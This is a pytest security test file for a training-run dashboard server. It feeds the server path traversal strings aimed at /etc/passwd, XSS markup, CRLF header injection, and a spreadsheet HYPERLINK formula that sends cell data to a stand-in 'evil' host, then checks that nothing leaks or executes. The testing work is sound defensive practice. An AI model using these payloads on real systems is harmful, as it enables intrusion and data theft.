import copy
import csv
import io
import json
import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote, urlencode

import numpy as np
import pyarrow as pa
import pytest
from dashboard_client import Answer, Callback, Send, Visit, callbacks, parts, through
from dashboard_watch import leaks, opened
from runs_to_show import fill, write

from entropylens.records import SCHEMAS
from entropylens.store.compact import compact
from entropylens.store.layout import Layout
from entropylens.store.segments import write_segment
from entropylens.store.writer import RunWriter
from entropylens_dashboard import create_server

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")

SLOWEST: Final = 2.0
"""Seconds of one answer; 0.1 on two idle cores."""
LARGEST: Final = 4 * 2**20
"""Bytes of one answer."""
MARKUP: Final = "<img src=x onerror=alert(1)></script><!--"
HOSTILE: Final[dict[str, Any]] = {
    "a path": "../../etc/passwd",
    "a coded path": "..%2f..%2fetc%2fpasswd",
    "an absolute path": "/etc/passwd",
    "a NUL": "a\0b",
    "a megabyte": "x" * 10**6,
    "half a character": "\ud800",
    "markup": MARKUP,
    "a number": 7,
    "more digits than a float has": 10**400,
    "infinity": float("inf"),
    "NaN": float("nan"),
    "a negative number": -1,
    "true": True,
    "null": None,
    "no text": "",
    "no list": [],
    "no mapping": {},
    "negative numbers": [-1, -2],
    "the widest range": [-1e308, 1e308],
    "a range too far": [1e300, 2e300],
    "nulls": [None, None],
    "mappings": [{"a": 1}],
    "ten thousand runs": [f"{number:012x}" for number in range(10_000)],
    "foreign keys": {"../x": {"../y": [1]}, "page": "vitals", "runs": ["a"]},
    "deep nesting": json.loads("[" * 200 + "]" * 200),
}
PAGES: Final = {
    "vitals": "/run/{0}?smooth=0.5&by=step&within=5~60&more=loss/mean",
    "compare": "/compare?runs={0},{1}&names=loss/mean&baseline={1}",
    "series": "/run/{0}/series?lines=loss/mean%0A%0Atrain",
    "runs": "/?filter=run",
}
OWN: Final = {
    "vitals": ("page", "panels", '{"graph"', "head", "findings", '{"control":"more"'),
    "compare": ("panels", '{"graph"', "outcome", '{"control":"names"'),
    "series": ("panels", '{"graph"', "series"),
    "runs": ("page", "runs"),
}
"""How the names of the callbacks of each page begin."""


class Desk:
    """A server over a folder, and pages that were opened on it."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.send: Send = through(create_server(folder))
        self.known = callbacks(self.send)

    def visit(self, path: str) -> Visit:
        visit = Visit(self.send, self.known)
        assert visit.open(path).status == 200
        return visit

    def ids(self) -> dict[str, str]:
        rows = self.visit("/").values["runs.rowData"]
        return {row["folder"]: row["id"] for row in rows}

    def every_page(self, run_id: str) -> dict[str, Answer]:
        """What the pages of a run, and those of all, answer."""
        answers: dict[str, Answer] = {}
        places = (f"/run/{run_id}", f"/run/{run_id}/series", f"/compare?runs={run_id}", "/")
        for page, path in zip(("vitals", "series", "compare", "runs"), places, strict=True):
            visit = Visit(self.send, self.known)
            answers[f"{page} opens"] = visit.open(path)
            if page != "runs":
                answers[f"{page} draws"] = visit.draw()
                answers[f"{page} beats"] = visit.beat()
            for name, callback in self.known.items():
                if name.startswith(OWN[page]) and not name.startswith(("page", "panels", '{"gr')):
                    assert callback.inputs
                    answers[f"{page} {name}"] = visit.ask(name)
        return answers


@pytest.fixture
def desk(folder: Path, make: Any, tmp_path: Path) -> Desk:
    """A run that is written, one that has ended, and one outside of the folder."""
    make("run", steps=50)
    make("other", steps=50, seed=1).close()
    outside = RunWriter(tmp_path / "outside", flush_seconds=0.05)
    fill(outside, 1, 5)
    outside.close()
    return Desk(folder)


def spots(value: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Places in a value: itself, and some of each level below."""
    yield way
    if isinstance(value, dict):
        for key in list(value)[:6] if not way else list(value)[:1]:
            yield from spots(value[key], (*way, key))
    elif isinstance(value, list) and value:
        yield from spots(value[0], (*way, 0))


def put(value: Any, way: tuple[Any, ...], new: Any) -> Any:
    if not way:
        return new
    value = copy.copy(value)
    value[way[0]] = put(value[way[0]], way[1:], new)
    return value


def replaced(visit: Visit, callback: Callback) -> Iterator[tuple[str, dict[str, Any]]]:
    """What a callback is sent, with one thing of it replaced by something hostile."""
    for at, (id, prop) in enumerate(callback.arguments):
        for way in spots(visit.value(id, prop)):
            for what, hostile in HOSTILE.items():
                body = callback.body(visit.value, visit.graphs)
                place = (body["inputs"] + body["state"])[at]
                place["value"] = put(place["value"], way, hostile)
                yield f"{what} as {id}.{prop} {list(way)} of {callback.name[:20]}", body


def faults(desk: Desk, what: str, answer: Answer, seconds: float = 0.0) -> list[str]:
    found = [f"tells {secret!r}" for secret in leaks(answer, desk.folder)]
    found += [f"takes {seconds:.1f} s"] if seconds > SLOWEST else []
    found += [f"{len(answer.body):,} bytes"] if len(answer.body) > LARGEST else []
    found += [f"status {answer.status}"] if answer.status >= 500 else []
    return [f"{what}: {one}" for one in found]


def summary(found: list[str]) -> str:
    return f"{len(found)} faults\n" + "\n".join(found[:: max(len(found) // 30, 1)])


# -- what a browser sends -------------------------------------------------------------------------


@pytest.mark.parametrize("page", PAGES)
def test_a_callback_takes_nothing_on_trust(desk: Desk, make: Any, page: str) -> None:
    ids = desk.ids()
    visit = desk.visit(PAGES[page].format(ids["run"], ids["other"]))
    if page == "runs":
        visit.ask("runs.rowTransaction looked.data runs-count.children", tags__data={"a": "b"})
    else:
        assert visit.draw(within__data=[5, 60]).status == 200
        assert visit.graphs
    make("late", steps=5)  # so that the folder changes, too
    found: list[str] = []
    with opened(desk.folder) as strange:
        for name in (name for name in desk.known if name.startswith(OWN[page])):
            for what, body in replaced(visit, desk.known[name]):
                start = time.monotonic()
                answer = desk.send("/_dash-update-component", json.dumps(body).encode())
                found += faults(desk, what, answer, time.monotonic() - start)
    assert strange == []
    assert not found, summary(found)
    assert desk.visit(f"/run/{ids['run']}").draw().status == 200


def ledgers(ledger: dict[str, Any], other: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    """What a browser might give back in place of what it was given."""
    (run_id, cursor), *_ = ledger["cursors"].items()
    (other_id, strange), *_ = other["cursors"].items()
    owner, table, epoch, ends = json.loads(cursor)
    line = next(iter(ledger["last"]))
    panel = next(iter(ledger["lines"]))
    for what, rows in (("negative", -5), ("huge", 2**63), ("vast", 10**300), ("earlier", 0)):
        text = json.dumps([owner, table, epoch, [[0, rows]]])
        yield f"{what} rows read", {**ledger, "cursors": {run_id: text}}
    for what, text in (
        ("another run's", strange),
        ("another table's", json.dumps([owner, "events", epoch, ends])),
        ("a path for a table", json.dumps([owner, "../../etc", epoch, ends])),
        ("many ranks", json.dumps([owner, table, epoch, [[rank, 1] for rank in range(10_000)]])),
        ("deep", "[" * 100_000),
        ("no texts", json.dumps([1, 2, 3, [["0", "1"]]])),
    ):
        yield f"{what} cursor", {**ledger, "cursors": {run_id: text}}
    yield "another run's ledger", other
    yield "no cursor of this run", {**ledger, "cursors": {other_id: strange}}
    yield "lines of no panel", {**ledger, "lines": {"../x": [line]}}
    yield "lines that nobody asked for", {**ledger, "lines": {panel: ["a", MARKUP, 7]}}
    yield "no lines", {**ledger, "lines": {}}
    yield "many lines", {**ledger, "lines": {panel: [line] * 10_000}}
    yield "no last steps", {**ledger, "last": {}}
    yield "last steps of no kind", {**ledger, "last": dict.fromkeys(ledger["last"], "x")}
    yield "counts of no kind", {**ledger, "counts": dict.fromkeys(ledger["counts"], [None])}
    yield "memory of no kind", {**ledger, "memory": dict.fromkeys(ledger["last"], ["x", {}])}
    yield "no memory", {**ledger, "memory": {}}
    for name in ledger:
        yield f"no {name}", {key: value for key, value in ledger.items() if key != name}


@pytest.mark.parametrize("smooth", ["0", "0.9"])
def test_a_ledger_that_was_altered_is_no_harm(
    desk: Desk, folder: Path, make: Any, smooth: str
) -> None:
    writer = make("grows", steps=20)
    ids = desk.ids()
    visit, other = (desk.visit(f"/run/{ids[n]}?smooth={smooth}") for n in ("grows", "other"))
    visit.draw()
    other.draw()
    fill(writer, 21, 25)
    writer.flush()
    kept = visit.values["ledger.data"]
    found: list[str] = []
    with opened(folder) as strange:
        for what, ledger in ledgers(kept, other.values["ledger.data"]):
            visit.values["ledger.data"] = ledger
            start = time.monotonic()
            found += faults(desk, what, visit.beat(), time.monotonic() - start)
    assert strange == []
    assert not found, summary(found)
    visit.values["ledger.data"] = kept
    assert "ledger" in visit.beat().outputs()


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b"7",
        b"{}",
        b"null",
        b"{" * 100_000,
        b"[" * 100_000,
        b"\xff\xfe",
        b'{"output": "../../etc/passwd.data"}',
        b'{"output": {"a": 1}, "outputs": [], "inputs": 3}',
        b'{"output": "page.children", "inputs": [], "outputs": [], "changedPropIds": []}',
        b'{"output": "page.children", "inputs": [{"id": "__class__"}], "changedPropIds": ["a"]}',
        b'{"output": "page.children", "outputs": 7, "inputs": [7], "changedPropIds": [7]}',
        b'{"output": "' + b"x" * 10**6 + b'"}',
    ],
)
def test_what_is_no_request_of_a_page_tells_nothing(desk: Desk, body: bytes) -> None:
    with opened(desk.folder) as strange:
        answer = desk.send("/_dash-update-component", body)
    assert 400 <= answer.status <= 500
    assert leaks(answer, desk.folder) == []
    assert strange == []
    assert desk.send("/", None).status == 200


ADDRESSES: Final = (
    "/run/../../etc/passwd",
    "/run/..%2f..%2fetc%2fpasswd",
    "/run/%2e%2e/outside",
    "/run/outside",
    "//etc/passwd",
    "/run/{0}/../../../etc/passwd",
    "/run/{0}/series/..",
    "/run/{0}%00",
    "/run/" + "a" * 100_000,
    "/compare?runs=" + ",".join(["../../etc"] * 5_000),
    "/compare?runs={0}&names=" + quote(MARKUP) + "&baseline=../x",
    "/compare?runs=" + ",".join(["{0}"] * 5_000),
    "/run/{0}?within=1e308~-1e308&smooth=nan&by=../x&scale=%00",
    "/run/{0}?within=-1e308~1e308",
    "/run/{0}?within=nan~inf",
    "/run/{0}?smooth=1e999",
    "/run/{0}?more=" + ",".join(["a"] * 5_000),
    "/run/{0}?more=" + quote("\0\u202e" + MARKUP),
    "/run/{0}?more=%ff%fe%ed%a0%80",
    "/run/{0}/series?lines=" + quote("\t".join(["a\nb\nc"] * 5_000)),
    "/?filter=" + quote(MARKUP),
    "/\ud800",
)


@pytest.mark.parametrize("at", range(len(ADDRESSES)))
def test_an_address_leads_nowhere_but_to_the_runs(desk: Desk, tmp_path: Path, at: int) -> None:
    path = ADDRESSES[at].replace("{0}", desk.ids()["run"])
    outside = json.loads((tmp_path / "outside" / "run.json").read_text())["run_id"]
    visit = Visit(desk.send, desk.known)
    with opened(desk.folder) as strange:
        answers = {"opens": visit.open(path)}
        if "spec.data" in visit.values:
            answers |= {"draws": visit.draw(), "beats": visit.beat()}
        answers["outside"] = visit.open(f"/run/{outside[:12]}")
    found = [one for what, answer in answers.items() for one in faults(desk, what, answer)]
    assert not found, summary(found)
    assert strange == []
    assert "Not here" in answers["outside"].text


# -- what is taken along --------------------------------------------------------------------------

QUERIES: Final[dict[str, dict[str, Any]]] = {
    "no page": {"page": "../../etc/passwd"},
    "a page of nobody": {"page": "__class__"},
    "no runs": {"runs": ""},
    "paths": {"runs": "../outside,/etc/passwd,..%2f"},
    "ten thousand runs": {"runs": ",".join(["a" * 12] * 10_000)},
    "one run ten thousand times": {"runs": ",".join(["RUN"] * 10_000)},
    "no panel": {"panel": "../x"},
    "a panel of megabytes": {"panel": "x" * 10**6},
    "names of megabytes": {"page": "compare", "panel": "x" * 10**5, "names": "x" * 10**5},
    "a foreign name": {"page": "compare", "panel": MARKUP, "names": MARKUP},
    "added": {"panel": "a\0b", "more": ["a\0b", "c"] * 1_000},
    "within nowhere": {"within": "nan~inf"},
    "within everything": {"within": "-1e308~1e308"},
    "within the far": {"within": "1e300~2e300"},
    "within text": {"within": "~~~"},
    "no smoothing": {"smooth": "1e999", "by": "../x", "scale": "\0"},
    "tokens": {"by": "tokens", "within": "1e300~2e300"},
    "a strange baseline": {"page": "compare", "panel": "loss/mean", "baseline": "../x"},
    "lines": {"page": "series", "panel": "a", "lines": "\n\n\t" * 10_000},
}


@pytest.mark.parametrize("kind", ["csv", "html"])
def test_an_export_takes_nothing_on_trust(desk: Desk, kind: str) -> None:
    run_id = desk.ids()["run"]
    plain = {"page": "vitals", "runs": run_id, "panel": "loss"}
    found: list[str] = []
    with opened(desk.folder) as strange:
        for what, query in QUERIES.items():
            text = urlencode({**plain, **query}, doseq=True).replace("RUN", run_id)
            start = time.monotonic()
            answer = desk.send(f"/export/figure.{kind}?{text}", None)
            seconds = time.monotonic() - start
            # The figure comes with the 4.5 MB of the program that draws it.
            answer = Answer(answer.status, answer.body[-LARGEST:], answer.headers)
            secrets = leaks(Answer(0, answer.body[-100_000:], answer.headers), desk.folder)
            found += [f"{what}: {one}" for one in secrets if "." not in one[:3]]
            found += [f"{what}: {answer.status}"] if answer.status not in (200, 404) else []
            found += [f"{what}: {seconds:.1f} s"] if seconds > SLOWEST else []
    assert strange == []
    assert not found, summary(found)


@pytest.mark.parametrize(
    "path",
    [
        "figure.exe",
        "figure.csv%0d%0aSet-Cookie:a=b",
        "figure.csv%0aX-Evil:1",
        "figure.../../../etc/passwd",
        "figure.csv%00.html",
        "../export/figure.py",
        "figure.",
        "figure.%22;x=%22",
    ],
)
def test_an_export_s_name_is_ours(desk: Desk, path: str) -> None:
    query = urlencode({"page": "vitals", "runs": desk.ids()["run"], "panel": "loss"})
    answer = desk.send(f"/export/{path}?{query}&x=%0d%0aSet-Cookie:%20a=b", None)
    assert answer.status in (404, 308)
    assert "Content-Disposition" not in answer.headers
    assert not {"Set-Cookie", "X-Evil"} & set(answer.headers)
    assert leaks(answer, desk.folder) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\t\t=", "＝", "＋"])
def test_no_name_is_a_formula_in_a_spreadsheet(folder: Path, start: str) -> None:
    name = f'{start}HYPERLINK("http://evil/"&A1),\'x\',"\r\n=1+1'
    writer = RunWriter(folder / "run", name=name, flush_seconds=0.05)
    write(writer, name, [1, 2], [-1.0, 2.0], module=name)
    write(writer, name, [1, 2], [-1.0, 2.0])
    writer.close()
    desk = Desk(folder)
    query = {"page": "series", "runs": desk.ids()["run"], "panel": name}
    query["lines"] = "\n".join((name, name, "train"))
    answer = desk.send(f"/export/figure.csv?{urlencode(query)}", None)
    assert answer.status == 200
    assert answer.headers["Content-Disposition"] == 'attachment; filename="figure.csv"'
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert len(rows) == 3
    for row in rows[1:]:
        assert [cell[:1] for cell in row[:3]] == ["'"] * 3, row
        assert row[-1] in ("-1.0", "2.0")


def test_a_figure_taken_along_runs_no_name(folder: Path) -> None:
    name = f"user/{MARKUP}<script>alert(1)</script>"
    writer = RunWriter(folder / "run", name=name, flush_seconds=0.05)
    write(writer, name, [1, 2], [1.0, 2.0])
    writer.close()
    desk = Desk(folder)
    query = {"page": "compare", "runs": desk.ids()["run"], "panel": name, "names": name}
    answer = desk.send(f"/export/figure.html?{urlencode(query)}", None)
    assert answer.status == 200
    assert "<script>alert(1)" not in answer.text
    assert MARKUP not in answer.text
